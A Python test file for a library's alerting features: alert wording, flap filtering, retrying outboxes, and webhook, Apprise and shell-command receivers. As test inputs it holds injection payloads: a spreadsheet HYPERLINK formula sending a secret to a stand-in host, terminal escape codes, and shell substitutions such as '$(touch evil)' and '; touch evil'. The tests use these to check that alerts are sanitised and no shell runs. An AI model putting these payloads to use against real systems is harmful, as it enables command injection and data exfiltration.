"""Alerts: what they say, values that flap, receivers that are down, and real receivers of each kind."""

import asyncio
import itertools
import json
import shlex
import sys
from collections.abc import AsyncIterator, Coroutine
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TypeVar

import attrs
import pytest
from aiohttp import web
from hypothesis import given, settings
from hypothesis import strategies as st

from wa_phone_async import (
    Change,
    Extra,
    InvalidArgumentError,
    PhoneNumber,
    PhoneNumberStatus,
    Severity,
    Throughput,
    verify_webhook,
)
from wa_phone_async.alerts import outbox as outboxes
from wa_phone_async.alerts.alert import Alert, alert_of, environment
from wa_phone_async.alerts.alerting import Alerting
from wa_phone_async.alerts.flapping import FLAPPING_SECONDS, FlapFilter
from wa_phone_async.alerts.outbox import DeliveryError, Outbox, retry_delay
from wa_phone_async.alerts.receivers import AppriseReceiver, CommandReceiver
from wa_phone_async.alerts.webhook import WebhookReceiver
from wa_phone_async.redaction import Secret
from wa_phone_async.sandbox import VirtualTimeLoop

T = TypeVar("T")

NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)
EVIL = '=HYPERLINK("https://x.example/?q=s3cret")\x1b[31m<b>@everyone\u202e\x00$(touch evil)`x`'
ACME = PhoneNumber("1", display_phone_number="+1 631-555-0100", verified_name=EVIL, status=PhoneNumberStatus.CONNECTED)
SECRET = Secret("webhook-secret")


def change(field: str, old: Any, new: Any, number: PhoneNumber = ACME) -> Change:
    return Change(waba_id="9", number=number, field=field, old=old, new=new, seen_at=NOON)


BANNED = change("status", "CONNECTED", "BANNED", attrs.evolve(ACME, status=PhoneNumberStatus.BANNED))


def run(main: Coroutine[Any, Any, T]) -> T:
    with asyncio.Runner(loop_factory=VirtualTimeLoop) as runner:
        return runner.run(main)


class TestText:
    def test_the_text_is_the_sentence_of_the_finding_that_the_change_causes(self) -> None:
        alert = alert_of(BANNED)
        assert (alert.severity, alert.code) == (Severity.ERROR, "status.banned")
        assert alert.sentence.startswith("Number +1 631-555-0100 ")
        assert alert.remedy

    @pytest.mark.parametrize(
        ("seen", "sentence"),
        [
            (change("status", "BANNED", "CONNECTED"), "Number +1 631-555-0100 has status CONNECTED; it was BANNED."),
            (change("id", "1", None), "Number +1 631-555-0100 is gone from account 9."),
            (change("id", None, "1"), "Number +1 631-555-0100 is new in account 9."),
            (change("shoe_size", None, 44), "Number +1 631-555-0100 has shoe_size 44; it was none."),
            (change("shoe_size", 44, None), "Number +1 631-555-0100 has shoe_size none; it was 44."),
            (
                change("throughput", Extra({"a": 1}), Throughput("HIGH")),
                'Number +1 631-555-0100 has throughput {"level": "HIGH"}; it was {"a": 1}.',
            ),
            (
                change("last_onboarded_time", "", NOON),
                'Number +1 631-555-0100 has last_onboarded_time 2026-11-22T12:00:00+00:00; it was "".',
            ),
        ],
    )
    def test_or_else_plain(self, seen: Change, sentence: str) -> None:
        alert = alert_of(seen)
        assert (alert.sentence, alert.severity, alert.code) == (sentence, Severity.INFO, "")

    @given(st.text() | st.just(EVIL), st.text())
    def test_no_name_harms_anybody(self, old: str, field: str) -> None:
        alert = alert_of(change(field, old, EVIL))
        assert alert.sentence.isascii()
        assert alert.sentence.isprintable()
        assert not set("<>@`*~|") & set(alert.sentence)
        assert "s3cret" not in alert.sentence
        assert all(value.isprintable() for value in alert.variables().values())
        line = alert.to_json()
        assert not set("\x1b\x00\u202e\n") & set(line)
        json.loads(line.encode())

    def test_a_command_inherits_no_secret(self) -> None:
        got = environment(alert_of(BANNED), {"PATH": "/bin", "WA_ACCESS_TOKEN": "t", "WA_NOTIFY": "u"})
        assert (got["PATH"], got["WA_FIELD"], got["WA_NEW"]) == ("/bin", "status", "BANNED")
        assert not {"WA_ACCESS_TOKEN", "WA_NOTIFY"} & set(got)


class TestFlapping:
    def test_back_and_forth_is_told_once(self) -> None:
        flaps = FlapFilter()
        values = ["A", "B", "A", "B"]
        told = [flaps.take(change("x", old, new), 60.0 * n) for n, (old, new) in enumerate(itertools.pairwise(values))]
        assert [it is not None for it in told] == [True, False, False]
        assert flaps.due(FLAPPING_SECONDS - 1) == []
        assert flaps.due(FLAPPING_SECONDS) == []
        assert len(flaps) == 0

    def test_a_value_that_stays_back_is_told_after_the_hour(self) -> None:
        flaps = FlapFilter()
        flaps.take(change("x", "A", "B"), 0)
        flaps.take(change("x", "B", "A"), 10)
        assert [(it.old, it.new) for it in flaps.due(FLAPPING_SECONDS)] == [("B", "A")]

    @given(st.lists(st.tuples(st.floats(0, 4000), st.sampled_from("ABC")), max_size=60))
    def test_laws(self, history: list[tuple[float, str]]) -> None:
        flaps, value, believed, time, told = FlapFilter(), "A", "A", 0.0, list[float]()

        def hear(changes: list[Change]) -> None:
            nonlocal believed
            for it in changes:
                assert it.old == believed or it.new != believed
                believed = it.new
                told.append(time)

        for pause, new in history:
            time += pause
            hear(flaps.due(time))
            if new != value:
                seen, value = change("x", value, new), new
                hear([it for it in [flaps.take(seen, time)] if it])
            assert len(flaps) <= 1
        # Three values: at most two alerts begin an hour, and one ends it.
        assert all(sum(start <= at < start + FLAPPING_SECONDS for at in told) <= 3 for start in told)
        time += FLAPPING_SECONDS
        hear(flaps.due(time))
        assert believed == value


class Deaf:
    """A receiver that is down until a time."""

    def __init__(self, until: float, *, retries: bool = True, workers: int = 1) -> None:
        self.name, self.workers, self.retries = "deaf", workers, retries
        self.until = until
        self.got = list[Alert]()
        self.tries = 0

    async def deliver(self, alert: Alert) -> None:
        self.tries += 1
        if asyncio.get_running_loop().time() < self.until:
            if self.tries % 3 == 0:
                await asyncio.sleep(1e6)
            raise DeliveryError("down") if self.tries % 3 == 1 else TypeError("a bug of a plugin with a s3cret")
        self.got.append(alert)

    async def close(self) -> None:
        self.until = -1


class TestOutbox:
    @settings(max_examples=8)
    @given(st.floats(0, 3600))
    def test_an_hour_of_silence_loses_nothing(self, until: float) -> None:
        async def main() -> None:
            receiver, said = Deaf(until), list[str]()
            outbox = Outbox(receiver, said.append)
            alerts = [alert_of(change("x", n, n + 1)) for n in range(40)]
            for alert in alerts:
                await outbox.put(alert)
                await asyncio.sleep(90)
            await outbox.close(1000)
            assert receiver.got == alerts
            assert receiver.tries < 200
            assert len(said) in (0, 2)
            assert "s3cret" not in str(said)

        run(main())

    def test_what_is_dead_for_ever_is_told_once_and_bounded(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(outboxes, "MAX_WAITING", 10)

        async def main() -> list[str]:
            said = list[str]()
            outbox = Outbox(Deaf(1e9), said.append)
            for number in range(13):
                await outbox.put(alert_of(change("x", number, 0)))
                await asyncio.sleep(1)
            await asyncio.sleep(10_000)
            await outbox.put(alert_of(change("x", 1, 0)))
            await outbox.close(5)
            return said

        assert run(main()) == [
            "deaf: down; alerts are kept and sent again",
            "deaf: alerts are lost: more than 10 wait",
            "deaf: 1 alerts were not delivered",
        ]

    def test_what_may_have_happened_is_not_done_again(self) -> None:
        async def main() -> list[str]:
            said = list[str]()
            outbox = Outbox(Deaf(10, retries=False, workers=2), said.append)
            await outbox.put(alert_of(BANNED))
            await outbox.close(100)
            return said

        assert run(main()) == ["deaf: down"]

    def test_delays(self) -> None:
        assert [retry_delay(n) for n in (1, 2, 3, 9, 10, 10_000)] == [1, 2, 4, 256, 300, 300]

    def test_a_settled_value_is_told_and_without_receivers_nothing_is_kept(self) -> None:
        async def main() -> list[tuple[Any, Any]]:
            receiver = Deaf(0)
            async with Alerting([receiver], print) as alerting, Alerting([], print) as idle:
                for seen in (change("x", "A", "B"), change("x", "B", "A")):
                    await alerting.take(seen)
                    await idle.take(seen)
                await asyncio.sleep(3700)
            return [(it.change.old, it.change.new) for it in receiver.got]

        assert run(main()) == [("A", "B"), ("B", "A")]


@asynccontextmanager
async def http_receiver(*statuses: int) -> AsyncIterator[tuple[str, list[tuple[bytes, Any]]]]:
    got, left = list[tuple[bytes, Any]](), list(statuses)

    async def take(request: web.Request) -> web.Response:
        got.append((await request.read(), request.headers.copy()))
        return web.Response(status=left.pop(0) if left else 200)

    app = web.Application()
    app.router.add_post("/hook", take)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    try:
        yield f"127.0.0.1:{port}/hook", got
    finally:
        await runner.cleanup()


class TestReceivers:
    async def test_a_webhook_is_signed_as_meta_signs(self) -> None:
        async with http_receiver(200, 302, 500) as (address, got):
            receiver = WebhookReceiver(f"http://{address}?key=s3cret", SECRET)
            await receiver.deliver(alert_of(BANNED))
            for status in (302, 500):
                with pytest.raises(DeliveryError, match=f"HTTP {status}"):
                    await receiver.deliver(alert_of(BANNED))
            body, headers = got[0]
            verify_webhook(body, headers["X-Hub-Signature-256"], SECRET)
            assert json.loads(body)["sentence"] == alert_of(BANNED).sentence
        with pytest.raises(DeliveryError, match=r"^not reached \(\w+\)$"):
            await receiver.deliver(alert_of(BANNED))
        await receiver.close()
        with pytest.raises(InvalidArgumentError) as caught:
            WebhookReceiver("ftp://s3cret", SECRET)
        assert "s3cret" not in str(caught.value)

    async def test_a_webhook_goes_by_the_proxy_of_the_environment_and_gets_nothing_of_netrc(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        netrc = tmp_path / "netrc"
        netrc.write_text("machine 127.0.0.1 login me password s3cret\nmachine hook.example login me password s3cret\n")
        monkeypatch.setenv("NETRC", str(netrc))
        async with http_receiver() as (address, got):
            monkeypatch.setenv("HTTP_PROXY", f"http://user:pass@{address.partition('/')[0]}")
            for url in (f"http://{address}", "http://hook.example/hook"):
                receiver = WebhookReceiver(url, SECRET)
                await receiver.deliver(alert_of(BANNED))
                await receiver.close()
        assert ["Authorization" in headers for _, headers in got] == [False, False]
        assert ["Proxy-Authorization" in headers for _, headers in got] == [False, True]

    @pytest.mark.filterwarnings("ignore::DeprecationWarning")  # apprise 2.3 imports imghdr on Python 3.11
    async def test_apprise_sends_the_sentence(self) -> None:
        pytest.importorskip("apprise", reason="the extra `alerts` is not installed")
        async with http_receiver(200, 500) as (address, got):
            receiver = AppriseReceiver(f"json://{address}")
            await receiver.deliver(alert_of(BANNED))
            document = json.loads(got[0][0])
            assert (document["message"], document["type"]) == (alert_of(BANNED).sentence, "failure")
            with pytest.raises(DeliveryError, match="did not take"):
                await receiver.deliver(alert_of(BANNED))
            await receiver.close()
        with pytest.raises(InvalidArgumentError) as caught:
            AppriseReceiver("nosuch://s3cret")
        assert "s3cret" not in str(caught.value)

    async def test_a_command_gets_values_and_never_a_shell(self, tmp_path: Path) -> None:
        script = tmp_path / "tell me.py"
        script.write_text(
            "import json, os, sys\n"
            "json.dump([sys.argv[1:], dict(os.environ), json.load(sys.stdin)], open(sys.argv[1], 'w'))\n"
        )
        out = tmp_path / "out $(touch evil)"
        receiver = CommandReceiver(shlex.join([sys.executable, str(script), str(out), "; touch evil"]))
        await receiver.deliver(alert_of(change("verified_name", "Acme", EVIL)))
        arguments, variables, document = json.loads(out.read_text())
        assert arguments == [str(out), "; touch evil"]
        assert (variables["WA_WABA_ID"], variables["WA_SEVERITY"]) == ("9", "info")
        assert (document["new"], document["old"]) == (EVIL, "Acme")
        assert set(tmp_path.iterdir()) == {script, out}
        await receiver.close()

    async def test_a_command_that_fails_or_hangs(self) -> None:
        failing = CommandReceiver(shlex.join([sys.executable, "-c", "raise SystemExit(3)"]))
        with pytest.raises(DeliveryError, match="exit status 3"):
            await failing.deliver(alert_of(BANNED))
        hanging = CommandReceiver(shlex.join([sys.executable, "-c", "import time; time.sleep(1000)"]))
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.3):
                await hanging.deliver(alert_of(BANNED))

    async def test_a_command_that_is_no_longer_there(self, tmp_path: Path) -> None:
        script = tmp_path / "tell"
        script.write_text("#!/bin/sh\n")
        script.chmod(0o700)
        receiver = CommandReceiver(str(script))
        script.unlink()
        with pytest.raises(DeliveryError, match="cannot be started: No such file"):
            await receiver.deliver(alert_of(BANNED))

    @pytest.mark.parametrize("command", ["", "'", "no-such-program x"])
    def test_a_wrong_command_is_said_at_the_start(self, command: str) -> None:
        with pytest.raises(InvalidArgumentError, match="--on-change must be"):
            CommandReceiver(command)
